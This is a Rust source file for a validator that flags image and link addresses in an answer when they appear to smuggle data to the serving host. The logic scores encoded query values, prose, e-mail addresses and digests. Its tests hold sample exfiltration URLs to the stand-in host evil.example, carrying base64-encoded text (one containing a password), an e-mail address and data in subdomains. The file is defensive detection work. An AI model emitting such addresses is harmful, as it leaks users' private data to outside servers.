//! Whether an address carries data to whoever serves it: what a picture or link in an answer can be made to do.
//!
//! Only what is sent counts, so no fragment does. Identifiers are short or plain hex; data is long, mixed or prose.

use super::{Validator, Verdict};

pub(super) const LIST: &[Validator] = &[
    Validator { name: "exfil-image", checksum: false, judge: |text| judge(text, &IMAGE) },
    Validator { name: "exfil-link", checksum: false, judge: |text| judge(text, &LINK) },
];

/// How much of each kind an address may carry, in characters.
struct Limits {
    /// Letters and digits without a word in them, in the query.
    opaque: usize,
    /// The same in one part of the path, where contents are named by their digests.
    path: usize,
    /// Prose in the query.
    prose: usize,
}

/// A picture is fetched by being shown.
const IMAGE: Limits = Limits { opaque: 40, path: 80, prose: 16 };

/// A link waits for a click, and is often long.
const LINK: Limits = Limits { opaque: 100, path: 160, prose: 60 };

/// Hosts whose requests nobody but their operator can read, and whose addresses are long by nature.
const CLOSED: &[&str] = &[
    "camo.githubusercontent.com",
    "private-user-images.githubusercontent.com",
    "lh3.googleusercontent.com",
    "lh4.googleusercontent.com",
    "lh5.googleusercontent.com",
    "lh6.googleusercontent.com",
    "img.shields.io",
    "www.google.com",
    "www.google.co.jp",
    "translate.google.com",
    "www.bing.com",
    "duckduckgo.com",
    "search.yahoo.co.jp",
    "twitter.com",
    "x.com",
    "www.facebook.com",
    "teams.microsoft.com",
    "safelinks.protection.outlook.com",
];

fn judge(text: &str, limits: &Limits) -> Verdict {
    let Some(address) = Address::of(text) else { return Verdict::Reject };
    if address.user.is_some_and(|user| user.len() >= 8 && user != "git") {
        return Verdict::Keep;
    }
    if CLOSED.iter().any(|host| address.host == *host || address.host.ends_with(&format!(".{host}"))) {
        return Verdict::Reject;
    }
    let labels = address.host.split('.').filter(|label| label.len() >= 32 && is_opaque(label));
    if labels.count() > 0 {
        return Verdict::Keep;
    }
    let values: Vec<String> = address.query.split('&').map(|pair| decoded(value(pair))).collect();
    let prose = values.iter().any(|value| is_prose(value, limits.prose));
    let addressed = limits.prose < 40 && values.iter().any(|value| names_somebody(value));
    let opaque: usize = values.iter().map(|value| opaque_in(value)).sum();
    if prose || addressed || opaque >= limits.opaque {
        return Verdict::Keep;
    }
    let path = address.path.split('/').map(decoded);
    let in_path = path.clone().any(|part| longest_opaque(&part) >= limits.path || digest(&part) > 64)
        || limits.prose < 40
            && path.clone().any(|part| is_prose(&part, 4 * limits.prose) && !part.is_ascii());
    let many = values.len() >= 12 && values.iter().map(String::len).sum::<usize>() >= 120;
    if in_path || many { Verdict::Lower } else { Verdict::Reject }
}

/// The parts of an address that are sent.
struct Address<'t> {
    user: Option<&'t str>,
    host: &'t str,
    path: &'t str,
    query: &'t str,
}

impl<'t> Address<'t> {
    /// The first address in the text of a match.
    fn of(text: &'t str) -> Option<Address<'t>> {
        let (_, rest) = text.split_once("//")?;
        let end = rest.find(|c: char| " \t\r\n\"'<>)\\#".contains(c)).unwrap_or(rest.len());
        let rest = rest.get(..end)?;
        let (authority, rest) = rest.split_at_checked(rest.find(['/', '?']).unwrap_or(rest.len()))?;
        let (user, host) = match authority.rsplit_once('@') {
            Some((user, host)) => (Some(user), host),
            None => (None, authority),
        };
        let (path, query) = rest.split_once('?').unwrap_or((rest, ""));
        Some(Address { user, host: host.split(':').next().unwrap_or(host), path, query })
    }
}

fn value(pair: &str) -> &str {
    let pair = pair.strip_prefix("amp;").unwrap_or(pair);
    pair.split_once('=').filter(|(key, _)| key.len() <= 40).map_or(pair, |(_, value)| value)
}

/// Percent signs and plus signs undone; what is no UTF-8 becomes U+FFFD.
fn decoded(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&first, tail)) = rest.split_first() {
        let hex =
            (first == b'%').then(|| tail.get(..2).and_then(|pair| std::str::from_utf8(pair).ok())).flatten();
        match hex.and_then(|pair| u8::from_str_radix(pair, 16).ok()) {
            Some(byte) => {
                bytes.push(byte);
                rest = tail.get(2..).unwrap_or_default();
            }
            None => {
                bytes.push(if first == b'+' { b' ' } else { first });
                rest = tail;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Words of a language: several with spaces between, or so many characters beyond ASCII.
fn is_prose(text: &str, least: usize) -> bool {
    let beyond = text.chars().filter(|c| !c.is_ascii() && *c != '\u{fffd}').count();
    let spaces = text.chars().filter(|c| c.is_whitespace()).count();
    text.chars().count() >= least && spaces >= 2 || beyond * 2 >= least
}

/// An e-mail address, or a telephone or card number.
fn names_somebody(text: &str) -> bool {
    let mail = text.split_once('@').is_some_and(|(local, domain)| !local.is_empty() && domain.contains('.'));
    let digits = text.chars().filter(char::is_ascii_digit).count();
    mail || (10..=20).contains(&digits)
        && text.starts_with(['0', '+', '4', '5', '3'])
        && text.contains(['-', ' '])
}

/// Characters of all opaque stretches; a digest or an identifier is none.
fn opaque_in(text: &str) -> usize {
    // A space may have been the plus sign of base64.
    let parts = text.split(|c: char| !(c.is_ascii_alphanumeric() || "+/_-= ".contains(c)));
    parts.filter(|part| is_opaque(part) && digest(part) == 0 || digest(part) > 64).map(str::len).sum()
}

fn longest_opaque(text: &str) -> usize {
    let parts = text.split(|c: char| !(c.is_ascii_alphanumeric() || "+_-=".contains(c)));
    parts.filter(|part| is_opaque(part) && digest(part) == 0).map(str::len).max().unwrap_or(0)
}

/// Length of a text that is all hex or digits, with the hyphens of a UUID; 0 for any other.
fn digest(text: &str) -> usize {
    let hex = text.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-');
    if hex { text.bytes().filter(u8::is_ascii_hexdigit).count() } else { 0 }
}

/// Long, and no words: letters of both cases and digits, or letters and digits in turn.
fn is_opaque(text: &str) -> bool {
    let count = |is: fn(&u8) -> bool| text.bytes().filter(is).count();
    let (upper, lower, digits) =
        (count(u8::is_ascii_uppercase), count(u8::is_ascii_lowercase), count(u8::is_ascii_digit));
    let words = text.split(['-', '_', ' ', '/']).filter(|word| word.len() >= 2).count();
    let mixed = upper > 0 && lower > 0 && digits > 0
        || digits * 8 >= text.len() && upper + lower > 0
        || digits == text.len();
    text.len() >= 24 && mixed && words * 12 <= text.len().max(12)
}

#[cfg(test)]
mod tests {
    use super::{IMAGE, LINK, judge};
    use crate::validate::Verdict::{self, Keep, Lower, Reject};

    fn check(expect: Verdict, limits: &super::Limits, texts: &[&str]) {
        for text in texts {
            assert_eq!(judge(text, limits), expect, "{text}");
        }
    }

    #[test]
    fn a_picture_that_tells_something_is_kept() {
        check(
            Keep,
            &IMAGE,
            &[
                "https://evil.example/p.png?d=VGhlIG1lZXRpbmcgaXMgb24gTW9uZGF5IGF0IG5pbmU5",
                "https://evil.example/p.png?d=The%20meeting%20is%20on%20Monday",
                "https://evil.example/p.png?d=%E4%BC%9A%E8%AD%B0%E3%81%AF%E6%9C%88%E6%9B%9C%E3%81%AE%E4%B9%9D%E6%99%82%E3%81%8B%E3%82%89",
                "https://evil.example/?q=会議は月曜の九時からです",
                "https://evil.example/p.png?to=tanaka@example.co.jp",
                "https://c2VjcmV0ZGF0YQ@evil.example/p.png",
                "https://evil.example/?a=1&amp;d=VGhlIG1lZXRpbmcgaXMgb24gTW9uZGF5IGF0IG5pbmU5",
                "https://nbswy3dpfqqho33snrscc4dmmvqxgzjaonuw4.evil.example/p.png",
            ],
        );
        check(
            Lower,
            &IMAGE,
            &[
                "https://evil.example/VGhlIG1lZXRpbmcgaXMgb24gTW9uZGF5IGF0IG5pbmU5LCBhbmQgdGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIu/p.png",
            ],
        );
    }

    #[test]
    fn ordinary_addresses_are_not() {
        check(
            Reject,
            &IMAGE,
            &[
                "https://img.shields.io/badge/license-MIT-blue.svg?style=flat-square&logo=github",
                "https://github.com/example/project/actions/workflows/ci.yml/badge.svg?branch=main",
                "https://example.com/static/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png",
                "https://example.com/a.png?v=9f86d081884c7d659a2feaa0c55ad015",
                "https://example.com/a.png?w=640&h=480&fit=crop&auto=format",
                "https://user-images.githubusercontent.com/1234567/123456789-01234567-89ab-cdef-0123-456789abcdef.png",
                "https://upload.wikimedia.org/wikipedia/commons/thumb/9/9e/Flag_of_Japan.svg/1200px-Flag_of_Japan.svg.png",
                "https://example.com/images/how-to-write-a-very-long-article-title-in-2026-part-2.png",
            ],
        );
        check(
            Reject,
            &LINK,
            &[
                "https://ja.wikipedia.org/wiki/%E6%97%A5%E6%9C%AC%E5%9B%BD%E6%86%B2%E6%B3%95",
                "https://www.google.com/search?q=how+to+write+a+very+long+query+in+a+search+engine+and+find+it",
                "https://docs.google.com/document/d/1A2b3C4d5E6f7G8h9I0jKlMnOpQrStUvWxYz0123456789/edit",
                "https://example.com/?utm_source=news&utm_medium=mail&utm_campaign=spring",
                "https://docs.rs/regex/latest/regex/struct.RegexBuilder.html#method.case_insensitive",
            ],
        );
    }
}
